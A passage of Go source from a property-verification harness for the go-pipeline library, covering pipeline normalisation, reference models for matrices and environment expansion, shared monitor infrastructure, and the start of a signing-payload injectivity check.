	if v, ok := s.Get("plugins"); ok {
		consumed["plugins"] = true
		if pl := normPlugins(v, st); len(pl.Seq) > 0 {
			out.Map = append(out.Map, doc.P("plugins", pl))
		}
	}
	// env
	if v, ok := s.Get("env"); ok {
		consumed["env"] = true
		if v.Kind == doc.KMap && len(v.Map) > 0 {
			out.Map = append(out.Map, doc.P("env", stringifyMap(v)))
		}
	}
	// signature: a closed three-field record, kept as it is
	if v, ok := s.Get("signature"); ok {
		consumed["signature"] = true
		if v.Kind != doc.KNull {
			out.Map = append(out.Map, doc.P("signature", v.Clone()))
		}
	}
	// matrix
	if v, ok := s.Get("matrix"); ok {
		consumed["matrix"] = true
		if v.Kind != doc.KNull {
			out.Map = append(out.Map, doc.P("matrix", normMatrix(v, st)))
		}
	}
	// cache
	if v, ok := s.Get("cache"); ok {
		consumed["cache"] = true
		if v.Kind != doc.KNull {
			out.Map = append(out.Map, doc.P("cache", normCache(v, st)))
		}
	}
	copyExtras(s, out, consumed, st, 1)
	return out
}

func normPluginConfig(v *doc.Node) *doc.Node {
	if v.IsEmptyValue() {
		return doc.Null()
	}
	return v.Clone()
}

func normPlugins(v *doc.Node, st *Stats) *doc.Node {
	out := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
	add := func(m *doc.Node) {
		for _, p := range m.Map {
			out.Seq = append(out.Seq, doc.M(doc.P(PluginCanonical(p.Key), normPluginConfig(p.Val))))
		}
	}
	switch v.Kind {
	case doc.KSeq:
		st.sh("plugins:list")
		for _, e := range v.Seq {
			switch e.Kind {
			case doc.KMap:
				if len(e.Map) > 1 {
					st.sh("plugins:multi-key-entry")
				}
				add(e)
			case doc.KStr:
				st.sh("plugins:string-entry")
				out.Seq = append(out.Seq, doc.M(doc.P(PluginCanonical(e.Str), doc.Null())))
			}
		}
	case doc.KMap:
		st.sh("plugins:mapping")
		add(v)
	case doc.KNull:
		st.sh("plugins:null")
	}
	return out
}

func normMatrix(v *doc.Node, st *Stats) *doc.Node {
	// dims: ordered list of (name, values)
	type dim struct {
		name string
		vals *doc.Node
	}
	var dims []dim
	var adjs []*doc.Node
	extras := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	hasAdjs := false
	switch v.Kind {
	case doc.KSeq:
		st.sh("matrix:list")
		dims = append(dims, dim{"", stringifyList(v)})
	case doc.KMap:
		st.sh("matrix:mapping")
		for _, p := range v.Map {
			switch p.Key {
			case "setup":
				switch p.Val.Kind {
				case doc.KSeq:
					st.sh("matrix:setup-list")
					dims = append(dims, dim{"", stringifyList(p.Val)})
				case doc.KMap:
					st.sh("matrix:setup-mapping")
					for _, dp := range p.Val.Map {
						dims = append(dims, dim{dp.Key, stringifyList(dp.Val)})
					}
				}
			case "adjustments":
				if p.Val.Kind == doc.KSeq {
					for _, a := range p.Val.Seq {
						adjs = append(adjs, a)
						hasAdjs = true
					}
				}
			default:
				extras.Map = append(extras.Map, doc.P(p.Key, MarkOrdered(p.Val.Clone())))
				st.Extras++
			}
		}
	default:
		return v.Clone()
	}
	anonOnly := len(dims) == 1 && dims[0].name == ""
	if anonOnly && len(dims[0].vals.Seq) > 0 && !hasAdjs && len(extras.Map) == 0 {
		st.sh("matrix:out-list")
		return dims[0].vals
	}
	out := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	out.AbsentOK = map[string]bool{"setup": true, "adjustments": true}
	switch {
	case len(dims) == 0:
	case anonOnly && len(dims[0].vals.Seq) > 0:
		out.Map = append(out.Map, doc.P("setup", dims[0].vals))
	default:
		sm := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for _, d := range dims {
			sm.Map = append(sm.Map, doc.P(d.name, d.vals))
		}
		out.Map = append(out.Map, doc.P("setup", sm))
	}
	if hasAdjs {
		al := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for _, a := range adjs {
			al.Seq = append(al.Seq, normAdjustment(a, st))
		}
		out.Map = append(out.Map, doc.P("adjustments", al))
	}
	out.Map = append(out.Map, extras.Map...)
	st.sh("matrix:out-mapping")
	return out
}

func normAdjustment(a *doc.Node, st *Stats) *doc.Node {
	if a.Kind != doc.KMap {
		return a.Clone()
	}
	out := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	for _, p := range a.Map {
		switch p.Key {
		case "with":
			switch p.Val.Kind {
			case doc.KMap:
				if len(p.Val.Map) == 1 && p.Val.Map[0].Key == "" {
					out.Map = append(out.Map, doc.P("with", stringify(p.Val.Map[0].Val)))
				} else {
					out.Map = append(out.Map, doc.P("with", stringifyMap(p.Val)))
				}
				st.sh("adjustment:with-mapping")
			default:
				out.Map = append(out.Map, doc.P("with", stringify(p.Val)))
				st.sh("adjustment:with-scalar")
			}
		case "skip":
			if p.Val.Kind != doc.KNull {
				out.Map = append(out.Map, doc.P("skip", p.Val.Clone()))
			}
		default:
			out.Map = append(out.Map, doc.P(p.Key, MarkOrdered(p.Val.Clone())))
			st.Extras++
		}
	}
	return out
}

func normCache(v *doc.Node, st *Stats) *doc.Node {
	out := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	out.AbsentOK = map[string]bool{"paths": true}
	switch v.Kind {
	case doc.KBool:
		if !v.Bool {
			st.sh("cache:false")
			return &doc.Node{Kind: doc.KMap, Map: []doc.Pair{doc.P("\x00cache-disabled", doc.B(true))}}
		}
		st.sh("cache:true")
		return out
	case doc.KStr:
		st.sh("cache:string")
		out.Map = append(out.Map, doc.P("paths", doc.L(doc.S(v.Str))))
		return out
	case doc.KSeq:
		st.sh("cache:list")
		if len(v.Seq) > 0 {
			out.Map = append(out.Map, doc.P("paths", stringifyList(v)))
		}
		return out
	case doc.KMap:
		st.sh("cache:mapping")
		for _, p := range v.Map {
			switch p.Key {
			case "paths":
				if l := stringifyList(p.Val); len(l.Seq) > 0 {
					out.Map = append(out.Map, doc.P("paths", l))
				}
			case "name", "size":
				if !(p.Val.Kind == doc.KNull || (p.Val.Kind == doc.KStr && p.Val.Str == "")) {
					out.Map = append(out.Map, doc.P(p.Key, stringify(p.Val)))
				}
			default:
				out.Map = append(out.Map, doc.P(p.Key, MarkOrdered(p.Val.Clone())))
				st.Extras++
			}
		}
		return out
	}
	return v.Clone()
}

// CacheDisabledMarker is the key normCache uses for `cache: false`; the
// comparison layer maps the two documented output shapes (JSON false, YAML
// {disabled: true}) onto it.
const CacheDisabledMarker = "\x00cache-disabled"

func normGroup(s *doc.Node, st *Stats, depth int) *doc.Node {
	out := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	consumed := map[string]bool{}
	if v, ok := pick(s, consumed, "key", "id", "identifier"); ok {
		if !(v.Kind == doc.KNull || (v.Kind == doc.KStr && v.Str == "")) {
			out.Map = append(out.Map, doc.P("key", stringify(v)))
		}
	}
	if v, ok := pick(s, consumed, "group", "label", "name"); ok {
		if v.Kind == doc.KNull {
			out.Map = append(out.Map, doc.P("group", doc.Null()))
		} else {
			out.Map = append(out.Map, doc.P("group", stringify(v)))
		}
	} else {
		out.Map = append(out.Map, doc.P("group", doc.Null()))
	}
	consumed["steps"] = true
	if v, ok := s.Get("steps"); ok && v.Kind == doc.KSeq {
		out.Map = append(out.Map, doc.P("steps", normSteps(v, st, depth+1)))
	} else {
		e := doc.L()
		e.Seq = []*doc.Node{}
		out.Map = append(out.Map, doc.P("steps", e))
	}
	copyExtras(s, out, consumed, st, 1)
	return out
}
