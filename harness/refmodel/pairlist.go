// Package refmodel holds the reference models the monitors compare the real
// code against. Each is written from the property text, on the harness's own
// data structures.
package refmodel

// PairList is the list-of-pairs model of an ordered dictionary.
type PairList[V any] struct {
	Items []PLItem[V]
	next  int
}

// PLItem is one pair; ID is the identity of the pair (stable across renames).
type PLItem[V any] struct {
	ID  int
	Key string
	Val V
}

func (p *PairList[V]) find(k string) int {
	for i, it := range p.Items {
		if it.Key == k {
			return i
		}
	}
	return -1
}

// Len is the number of pairs.
func (p *PairList[V]) Len() int { return len(p.Items) }

// Get looks a key up.
func (p *PairList[V]) Get(k string) (V, bool) {
	if i := p.find(k); i >= 0 {
		return p.Items[i].Val, true
	}
	var z V
	return z, false
}

// Set updates in place or appends.
func (p *PairList[V]) Set(k string, v V) {
	if i := p.find(k); i >= 0 {
		p.Items[i].Val = v
		return
	}
	p.next++
	p.Items = append(p.Items, PLItem[V]{ID: p.next, Key: k, Val: v})
}

// Replace renames old to new in place with value v, removing any other pair
// keyed new; if old is absent the pair (new, v) is appended (again removing
// any other pair keyed new).
func (p *PairList[V]) Replace(old, new string, v V) {
	i := p.find(old)
	if old != new {
		if j := p.find(new); j >= 0 {
			p.Items = append(p.Items[:j:j], p.Items[j+1:]...)
			if i > j {
				i--
			}
		}
	}
	if i >= 0 {
		p.Items[i].Key = new
		p.Items[i].Val = v
		return
	}
	p.next++
	p.Items = append(p.Items, PLItem[V]{ID: p.next, Key: new, Val: v})
}

// Delete removes the pair with the key, if any.
func (p *PairList[V]) Delete(k string) {
	if i := p.find(k); i >= 0 {
		p.Items = append(p.Items[:i:i], p.Items[i+1:]...)
	}
}

// Clone copies the list (values are copied shallowly).
func (p *PairList[V]) Clone() *PairList[V] {
	return &PairList[V]{Items: append([]PLItem[V](nil), p.Items...), next: p.next}
}

// HasID reports whether a pair with that identity is still present.
func (p *PairList[V]) HasID(id int) bool {
	for _, it := range p.Items {
		if it.ID == id {
			return true
		}
	}
	return false
}
