package refmodel

import "sort"

// MatrixSpec is the harness's own description of a matrix.
type MatrixSpec struct {
	Nil    bool                // the step has no matrix at all
	Dims   []string            // dimension names ("" = the anonymous dimension)
	Values map[string][]string // per dimension, the setup values (may be empty, never nil)
	Adjs   []AdjSpec
}

// AdjSpec is one adjustment.
type AdjSpec struct {
	With map[string]string
	Skip any // nil (absent), bool, or string
}

// SkipTruthy follows the specification: absent and false mean "not
// skipped"; true and any string (a reason) mean "skipped".
func SkipTruthy(v any) bool {
	switch t := v.(type) {
	case nil:
		return false
	case bool:
		return t
	}
	return true
}

func sameDims(m map[string]string, dims []string) bool {
	if len(m) != len(dims) {
		return false
	}
	for _, d := range dims {
		if _, ok := m[d]; !ok {
			return false
		}
	}
	return true
}

func tupleEq(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if w, ok := b[k]; !ok || w != v {
			return false
		}
	}
	return true
}

// MatrixAccepts is the matrix specification as a predicate. It also returns
// the category of the decision (for evidence).
func MatrixAccepts(m MatrixSpec, p map[string]string) (bool, string) {
	if m.Nil {
		if len(p) == 0 {
			return true, "nil-matrix-empty-permutation"
		}
		return false, "nil-matrix"
	}
	if !sameDims(p, m.Dims) {
		if len(p) != len(m.Dims) {
			return false, "arity"
		}
		return false, "unknown-dimension"
	}
	for _, a := range m.Adjs {
		if !sameDims(a.With, m.Dims) {
			return false, "malformed-adjustment"
		}
	}
	base := true
	for _, d := range m.Dims {
		found := false
		for _, v := range m.Values[d] {
			if v == p[d] {
				found = true
				break
			}
		}
		if !found {
			base = false
			break
		}
	}
	matched := false
	for _, a := range m.Adjs {
		if tupleEq(a.With, p) {
			if SkipTruthy(a.Skip) {
				return false, "skipped"
			}
			matched = true
		}
	}
	switch {
	case base && matched:
		return true, "base-and-adjustment"
	case base:
		return true, "base-combination"
	case matched:
		return true, "adjustment-only"
	}
	return false, "no-match"
}

// SortedKeys returns the keys of a string map in order.
func SortedKeys[V any](m map[string]V) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
