package refmodel

import "strings"

// MatrixTokens replaces every matrix token in s in one left-to-right pass:
//
//	"{{" ws* "matrix" ( "." [A-Za-z0-9_.-]+ )? ws* "}}"
//
// with the value of the named dimension ("" = the anonymous dimension).
// Replacement text is never rescanned. unknown lists the dimensions named by
// tokens that the permutation does not have (such tokens are dropped from the
// output; callers must treat a non-empty unknown list as "the call must fail").
func MatrixTokens(s string, perm map[string]string) (out string, unknown []string, tokens int) {
	var b strings.Builder
	i := 0
	for i < len(s) {
		if end, dim, ok := matchToken(s, i); ok {
			tokens++
			if v, has := perm[dim]; has {
				b.WriteString(v)
			} else {
				unknown = append(unknown, dim)
			}
			i = end
			continue
		}
		b.WriteByte(s[i])
		i++
	}
	return b.String(), unknown, tokens
}

func isWS(c byte) bool { return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' }

func isDimChar(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_' || c == '.' || c == '-'
}

// matchToken tries to match a token starting exactly at s[i:].
func matchToken(s string, i int) (end int, dim string, ok bool) {
	if !strings.HasPrefix(s[i:], "{{") {
		return 0, "", false
	}
	j := i + 2
	for j < len(s) && isWS(s[j]) {
		j++
	}
	if !strings.HasPrefix(s[j:], "matrix") {
		return 0, "", false
	}
	j += len("matrix")
	if j < len(s) && s[j] == '.' {
		k := j + 1
		for k < len(s) && isDimChar(s[k]) {
			k++
		}
		if k == j+1 {
			return 0, "", false // "matrix." with no name
		}
		dim = s[j+1 : k]
		j = k
	}
	for j < len(s) && isWS(s[j]) {
		j++
	}
	if !strings.HasPrefix(s[j:], "}}") {
		return 0, "", false
	}
	return j + 2, dim, true
}
