package refmodel

import (
	"strings"

	"github.com/buildkite/interpolate"
)

// Env is the harness's own caller environment, case-sensitive or not.
type Env struct {
	CaseInsensitive bool
	M               map[string]string
}

// NewEnv builds an Env from a map.
func NewEnv(ci bool, m map[string]string) *Env {
	e := &Env{CaseInsensitive: ci, M: map[string]string{}}
	for _, k := range SortedKeys(m) {
		e.Set(k, m[k])
	}
	return e
}

func (e *Env) norm(k string) string {
	if e.CaseInsensitive {
		return strings.ToUpper(k)
	}
	return k
}

// Get implements interpolate.Env and pipeline.InterpolationEnv.
func (e *Env) Get(k string) (string, bool) { v, ok := e.M[e.norm(k)]; return v, ok }

// Set implements pipeline.InterpolationEnv.
func (e *Env) Set(k, v string) { e.M[e.norm(k)] = v }

// Clone copies the env.
func (e *Env) Clone() *Env {
	c := &Env{CaseInsensitive: e.CaseInsensitive, M: make(map[string]string, len(e.M))}
	for k, v := range e.M {
		c.M[k] = v
	}
	return c
}

// EnvFold is the sequential model of the pipeline env block: entries top to
// bottom; name and value expanded with the environment as it stands; the
// entry rewritten in place; the expanded value written back to the
// environment unless runtime precedence is requested and the environment
// already has the name. It returns the first expansion error.
func EnvFold(block *PairList[string], env *Env, preferRuntime bool) error {
	snap := append([]PLItem[string](nil), block.Items...)
	for _, it := range snap {
		if !block.HasID(it.ID) {
			continue // removed by an earlier rename onto its name
		}
		k2, err := interpolate.Interpolate(env, it.Key)
		if err != nil {
			return err
		}
		v2, err := interpolate.Interpolate(env, it.Val)
		if err != nil {
			return err
		}
		block.Replace(it.Key, k2, v2)
		if _, has := env.Get(k2); !(preferRuntime && has) {
			env.Set(k2, v2)
		}
	}
	return nil
}
