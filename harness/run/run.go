// Package run is the shared infrastructure of the runtime monitors: seeds,
// case scheduling over all cores, panic capture, violation/replay files,
// known-findings handling and the evidence writer.
package run

import (
	"encoding/json"
	"flag"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Ctx is the per-run context of one property check.
type Ctx struct {
	Prop     string
	Tier     string
	Seed     int64
	Only     string // "phase/index": run only that case (replay)
	Evidence string
	Replays  string
	KnownF   string
	Workers  int

	start time.Time

	mu         sync.Mutex
	evals      int64
	distinct   map[uint64]struct{}
	counters   map[string]int64
	maxes      map[string]int64
	samples    []any
	sampleCap  int
	violations int
	knownSeen  []string
	infra      []string
	replayN    int
	known      *KnownFile
}

// KnownFile is /verif/known_findings.json.
type KnownFile struct {
	Findings []Finding `json:"findings"`
}

// Finding is one entry of the known-findings file.
type Finding struct {
	ID         string          `json:"id"`
	Status     string          `json:"status"` // "known" or "fixed"
	Properties []string        `json:"properties"`
	Line       string          `json:"line"`
	What       string          `json:"what"`
	Commit     string          `json:"commit,omitempty"`
	Witness    json.RawMessage `json:"witness,omitempty"`
	WhyNotFix  string          `json:"why_not_repaired,omitempty"`
}

// New parses the common flags (after the sub-command name) and returns a Ctx.
func New(prop string, args []string) *Ctx {
	fs := flag.NewFlagSet(prop, flag.ExitOnError)
	c := &Ctx{Prop: prop, start: time.Now()}
	fs.StringVar(&c.Tier, "tier", "quick", "quick|thorough")
	fs.Int64Var(&c.Seed, "seed", 1, "seed")
	fs.StringVar(&c.Only, "only", "", "phase/index to run alone")
	fs.StringVar(&c.Evidence, "evidence", "", "evidence file to write")
	fs.StringVar(&c.Replays, "replays", "", "directory for replay files")
	fs.StringVar(&c.KnownF, "known", "", "known findings file")
	fs.IntVar(&c.Workers, "workers", runtime.NumCPU(), "parallel workers")
	_ = fs.Parse(args)
	if c.Tier != "quick" && c.Tier != "thorough" {
		fmt.Fprintf(os.Stderr, "bad tier %q\n", c.Tier)
		os.Exit(3)
	}
	c.distinct = make(map[uint64]struct{})
	c.counters = make(map[string]int64)
	c.maxes = make(map[string]int64)
	c.sampleCap = 6
	c.known = &KnownFile{}
	if c.KnownF != "" {
		b, err := os.ReadFile(c.KnownF)
		if err != nil {
			fmt.Fprintf(os.Stderr, "INFRA: cannot read known findings: %v\n", err)
			os.Exit(3)
		}
		if err := json.Unmarshal(b, c.known); err != nil {
			fmt.Fprintf(os.Stderr, "INFRA: cannot parse known findings: %v\n", err)
			os.Exit(3)
		}
	}
	return c
}

// Thorough reports whether the thorough tier was requested.
func (c *Ctx) Thorough() bool { return c.Tier == "thorough" }

// N picks a count by tier.
func (c *Ctx) N(quick, thorough int) int {
	if c.Thorough() {
		return thorough
	}
	return quick
}

func hash64(parts ...any) uint64 {
	h := fnv.New64a()
	for _, p := range parts {
		fmt.Fprintf(h, "%v\x00", p)
	}
	return h.Sum64()
}

// RNG returns a deterministic generator for (seed, property, parts...).
func (c *Ctx) RNG(parts ...any) *rand.Rand {
	a := hash64(append([]any{c.Seed, c.Prop}, parts...)...)
	b := hash64(append([]any{"b", c.Seed, c.Prop}, parts...)...)
	return rand.New(rand.NewPCG(a, b))
}

// Eval counts evaluations.
func (c *Ctx) Eval(n int) {
	atomic.AddInt64(&c.evals, int64(n))
}

// Count adds to a named counter.
func (c *Ctx) Count(name string, n int) {
	c.mu.Lock()
	c.counters[name] += int64(n)
	c.mu.Unlock()
}

// Max records the maximum of a named quantity.
func (c *Ctx) Max(name string, v int64) {
	c.mu.Lock()
	if v > c.maxes[name] {
		c.maxes[name] = v
	}
	c.mu.Unlock()
}

// Counter reads a counter.
func (c *Ctx) Counter(name string) int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.counters[name]
}

// Feature records a feature vector (any printable value); the number of
// distinct vectors is reported as distinct_nontrivial.
func (c *Ctx) Feature(parts ...any) {
	h := hash64(parts...)
	c.mu.Lock()
	c.distinct[h] = struct{}{}
	c.mu.Unlock()
}

// Sample keeps a few concrete cases for the evidence file.
func (c *Ctx) Sample(v any) {
	c.mu.Lock()
	if len(c.samples) < c.sampleCap {
		c.samples = append(c.samples, v)
	}
	c.mu.Unlock()
}

// WantSample reports whether more samples are wanted (cheap pre-check).
func (c *Ctx) WantSample() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.samples) < c.sampleCap
}

// Violation records a violation, writes a replay file and prints the
// VIOLATION line (for the first few).
func (c *Ctx) Violation(caseID string, detail map[string]any) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.violations++
	if c.replayN >= 5 {
		return
	}
	c.replayN++
	path := c.writeReplay(caseID, detail)
	fmt.Printf("VIOLATION property=%s replay=%s\n", c.Prop, path)
	if msg, ok := detail["what"]; ok {
		fmt.Printf("  case %s: %v\n", caseID, msg)
	}
}

func (c *Ctx) writeReplay(caseID string, detail map[string]any) string {
	dir := c.Replays
	if dir == "" {
		dir = filepath.Join("replays", c.Prop)
	}
	_ = os.MkdirAll(dir, 0o755)
	name := strings.NewReplacer("/", "_", " ", "_", ":", "_").Replace(caseID)
	path := filepath.Join(dir, fmt.Sprintf("%s-seed%d-%s.json", c.Tier, c.Seed, name))
	out := map[string]any{
		"property": c.Prop, "tier": c.Tier, "seed": c.Seed, "case": caseID, "detail": detail,
	}
	b, err := json.MarshalIndent(out, "", " ")
	if err != nil {
		b = []byte(fmt.Sprintf("{\"property\":%q,\"case\":%q,\"detail\":%q}", c.Prop, caseID, fmt.Sprint(detail)))
	}
	_ = os.WriteFile(path, b, 0o644)
	abs, err := filepath.Abs(path)
	if err != nil {
		return path
	}
	return abs
}

// Infra records an infrastructure problem (harness bug, too little observed):
// the run exits non-zero without a VIOLATION line.
func (c *Ctx) Infra(format string, a ...any) {
	c.mu.Lock()
	c.infra = append(c.infra, fmt.Sprintf(format, a...))
	c.mu.Unlock()
}

// Violations returns the number of violations so far.
func (c *Ctx) Violations() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.violations
}

// FindingsFor lists findings of the known-findings file naming this property.
func (c *Ctx) FindingsFor() []Finding {
	var out []Finding
	for _, f := range c.known.Findings {
		for _, p := range f.Properties {
			if p == c.Prop {
				out = append(out, f)
			}
		}
	}
	return out
}

// Listed reports whether finding id is listed as "known" for this property.
func (c *Ctx) Listed(id string) bool {
	for _, f := range c.FindingsFor() {
		if f.ID == id && f.Status == "known" {
			return true
		}
	}
	return false
}

// Witness replays a witness of a listed finding. fails reports whether the
// defect still reproduces. Known + fails -> KNOWN-FINDING line; fixed + fails
// -> violation; known + passes -> note only.
func (c *Ctx) Witness(f Finding, fails bool, what string) {
	switch {
	case f.Status == "known" && fails:
		c.mu.Lock()
		c.knownSeen = append(c.knownSeen, f.ID)
		c.mu.Unlock()
		fmt.Printf("KNOWN-FINDING: property=%s %s: %s\n", c.Prop, f.ID, what)
	case f.Status == "known" && !fails:
		fmt.Printf("note: listed finding %s no longer reproduces for %s (%s)\n", f.ID, c.Prop, what)
	case f.Status == "fixed" && fails:
		c.Violation("witness/"+f.ID, map[string]any{"what": "fixed finding " + f.ID + " reproduces again: " + what, "finding": f})
	}
	c.Count("witnesses_replayed", 1)
}

// KnownHit counts a generated case that fell into a listed known-finding
// class (and is therefore not reported as a violation).
func (c *Ctx) KnownHit(id string) {
	c.Count("known_class_hits_"+id, 1)
}

// PanicInfo describes a recovered panic.
type PanicInfo struct {
	Value   string
	Stack   string
	InRepo  bool // the innermost non-runtime frame belongs to go-pipeline
	TopFunc string
}

// Classify inspects a recovered panic value and stack.
func Classify(v any, stack []byte) PanicInfo {
	pi := PanicInfo{Value: fmt.Sprint(v), Stack: string(stack)}
	lines := strings.Split(string(stack), "\n")
	// Frames after the "panic(" frame, innermost first.
	seenPanic := false
	for i := 0; i < len(lines); i++ {
		l := lines[i]
		if strings.HasPrefix(l, "panic(") {
			seenPanic = true
			continue
		}
		if !seenPanic || strings.HasPrefix(l, "\t") || l == "" {
			continue
		}
		if strings.HasPrefix(l, "runtime.") || strings.HasPrefix(l, "runtime/") {
			continue
		}
		pi.TopFunc = l
		break
	}
	// A panic is attributed to the repository when any frame between the
	// panic and the first harness frame is a go-pipeline frame.
	seenPanic = false
	for _, l := range lines {
		if strings.HasPrefix(l, "panic(") {
			seenPanic = true
			continue
		}
		if !seenPanic || strings.HasPrefix(l, "\t") {
			continue
		}
		if strings.HasPrefix(l, "github.com/buildkite/go-pipeline") {
			pi.InRepo = true
			break
		}
		if strings.HasPrefix(l, "verif/") || strings.HasPrefix(l, "main.") {
			break
		}
	}
	return pi
}

// Guard runs f and converts a panic into a PanicInfo.
func Guard(f func()) (pi *PanicInfo) {
	defer func() {
		if r := recover(); r != nil {
			p := Classify(r, debug.Stack())
			pi = &p
		}
	}()
	f()
	return nil
}

// Parallel runs cases 0..n-1 of a phase over all workers. Each case gets its
// own deterministic RNG. A panic escaping a case that originates in
// go-pipeline is a violation; one originating in the harness is an
// infrastructure error.
func (c *Ctx) Parallel(phase string, n int, f func(i int, rng *rand.Rand)) {
	onlyIdx := -1
	if c.Only != "" {
		ph, idx, ok := strings.Cut(c.Only, "/")
		if !ok || ph != phase {
			return
		}
		fmt.Sscanf(idx, "%d", &onlyIdx)
	}
	var next int64
	var wg sync.WaitGroup
	w := c.Workers
	if w < 1 {
		w = 1
	}
	for k := 0; k < w; k++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(atomic.AddInt64(&next, 1) - 1)
				if i >= n {
					return
				}
				if onlyIdx >= 0 && i != onlyIdx {
					continue
				}
				if c.Violations() > 50 {
					return
				}
				rng := c.RNG(phase, i)
				if pi := Guard(func() { f(i, rng) }); pi != nil {
					id := fmt.Sprintf("%s/%d", phase, i)
					if pi.InRepo {
						c.Violation(id, map[string]any{"what": "panic in go-pipeline: " + pi.Value, "stack": pi.Stack})
					} else {
						c.Infra("harness panic in case %s: %s\n%s", id, pi.Value, pi.Stack)
					}
				}
			}
		}()
	}
	wg.Wait()
}

// Phase prints the wall-clock time a phase took (to stderr) when GPV_TIMING is set.
func (c *Ctx) Phase(name string, f func()) {
	t0 := time.Now()
	f()
	if os.Getenv("GPV_TIMING") != "" {
		fmt.Fprintf(os.Stderr, "timing: %s %s %.1fs\n", c.Prop, name, time.Since(t0).Seconds())
	}
}

// CaseID formats a case identifier.
func CaseID(phase string, i int) string { return fmt.Sprintf("%s/%d", phase, i) }

// AtExit, when set, runs before the process exits in Finish.
var AtExit func()

// Finish writes the evidence file and exits with the verdict.
func (c *Ctx) Finish(level, rule string, extra map[string]any, assumptions []string) {
	if AtExit != nil {
		AtExit()
	}
	c.mu.Lock()
	cov := map[string]any{
		"evaluations":         c.evals,
		"distinct_nontrivial": len(c.distinct),
		"rule":                rule,
		"samples":             append([]any{}, c.samples...),
	}
	keys := make([]string, 0, len(c.counters))
	for k := range c.counters {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	cnt := map[string]int64{}
	for _, k := range keys {
		cnt[k] = c.counters[k]
	}
	cov["counters"] = cnt
	if len(c.maxes) > 0 {
		cov["maxima"] = c.maxes
	}
	for k, v := range extra {
		cov[k] = v
	}
	if len(c.knownSeen) > 0 {
		cov["known_findings_reproduced"] = c.knownSeen
	}
	if c.Only != "" {
		cov["replay_only"] = c.Only
	}
	if st := os.Getenv("GPV_SECOND_TOOLCHAIN"); st != "" {
		cov["second_toolchain"] = st
	}
	if st := os.Getenv("GPV_FUZZ_SUMMARY"); st != "" {
		cov["native_fuzzing"] = st
	}
	cov["go_version"] = runtime.Version()
	infra := append([]string(nil), c.infra...)
	if len(infra) > 0 {
		cov["infrastructure_errors"] = infra
	}
	viol := c.violations
	evals := c.evals
	ndist := len(c.distinct)
	nsamples := len(c.samples)
	c.mu.Unlock()

	ev := map[string]any{
		"property_id": c.Prop,
		"tier":        c.Tier,
		"seed":        c.Seed,
		"level":       level,
		"coverage":    cov,
		"assumptions": assumptions,
		"wall_s":      time.Since(c.start).Seconds(),
		"violations":  viol,
	}
	if c.Evidence != "" && c.Only == "" {
		b, err := json.MarshalIndent(ev, "", " ")
		if err != nil {
			fmt.Fprintf(os.Stderr, "INFRA: evidence not serialisable: %v\n", err)
			os.Exit(3)
		}
		_ = os.MkdirAll(filepath.Dir(c.Evidence), 0o755)
		if err := os.WriteFile(c.Evidence, append(b, '\n'), 0o644); err != nil {
			fmt.Fprintf(os.Stderr, "INFRA: cannot write evidence: %v\n", err)
			os.Exit(3)
		}
	}
	fmt.Printf("%s %s seed=%d: evaluations=%d distinct=%d violations=%d wall=%.1fs\n",
		c.Prop, c.Tier, c.Seed, evals, ndist, viol, time.Since(c.start).Seconds())
	if viol > 0 {
		os.Exit(1)
	}
	if len(infra) > 0 {
		for _, m := range infra {
			fmt.Fprintf(os.Stderr, "INFRA: %s\n", m)
		}
		os.Exit(3)
	}
	if c.Only == "" && (evals == 0 || ndist < 2 || nsamples == 0) {
		fmt.Fprintf(os.Stderr, "INFRA: run observed too little (evaluations=%d distinct=%d samples=%d)\n", evals, ndist, nsamples)
		os.Exit(3)
	}
	os.Exit(0)
}
