package main

import (
	"crypto/sha256"
	"fmt"
	"math/rand/v2"
	"reflect"
	"strings"
	"sync"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/signature"

	"verif/doc"
	"verif/gen"
	"verif/keys"
	"verif/refmodel"
	"verif/run"
	"verif/util"
)

func init() { register("C14", checkC14) }

type c14Obs struct {
	payload [32]byte
	sem     [32]byte
	desc    string
	payTxt  string
	semTxt  string
}

// c14Monitor keeps, over a whole batch, payload-hash -> semantic form and
// semantic form -> payload-hash; the two partitions must be identical.
type c14Monitor struct {
	mu       sync.Mutex
	byPay    map[[32]byte]c14Obs
	bySem    map[[32]byte]c14Obs
	observed int
}

func (m *c14Monitor) observe(c *run.Ctx, id string, o c14Obs) bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.observed++
	if prev, ok := m.byPay[o.payload]; ok && prev.sem != o.sem {
		c.Violation(id, map[string]any{"what": "two inputs with different semantic content have the same signing payload (not injective)",
			"a": prev.desc, "b": o.desc, "payload": clip(o.payTxt, 3000), "semantic_a": clip(prev.semTxt, 3000), "semantic_b": clip(o.semTxt, 3000)})
		return false
	}
	if prev, ok := m.bySem[o.sem]; ok && prev.payload != o.payload {
		c.Violation(id, map[string]any{"what": "two inputs with the same semantic content have different signing payloads (not order/spelling-insensitive or not deterministic)",
			"a": prev.desc, "b": o.desc, "payload_a": clip(prev.payTxt, 3000), "payload_b": clip(o.payTxt, 3000), "semantic": clip(o.semTxt, 3000)})
		return false
	}
	if _, ok := m.byPay[o.payload]; !ok {
		m.byPay[o.payload] = o
	}
	if _, ok := m.bySem[o.sem]; !ok {
